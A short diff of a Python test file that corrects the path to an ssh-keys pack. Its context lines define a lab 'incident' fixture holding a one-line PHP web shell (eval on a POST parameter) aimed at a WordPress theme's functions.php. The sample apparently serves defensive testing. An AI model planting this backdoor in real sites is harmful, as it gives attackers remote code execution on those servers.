@@ -280,7 +280,7 @@ def test_an_invalid_ruleset_is_never_applied(netns_host: NetnsHost, tmp_path: Pa
 # =========================================================================== the incident (lab)
 
 REPO = Path(__file__).resolve().parents[2]
-SSH_PACK = str(REPO / "packs" / "ssh-keys.yaml")
+SSH_PACK = str(REPO / "fleetkit" / "packs" / "ssh-keys.yaml")
 WEB_ROOT = "/var/www/htdocs/wp-content/themes/goldenrod"
 TROJAN_PATH = f"{WEB_ROOT}/functions.php"
 TROJAN = b"<?php /* goldenrod worm */ eval($_POST['x']); ?>\n"
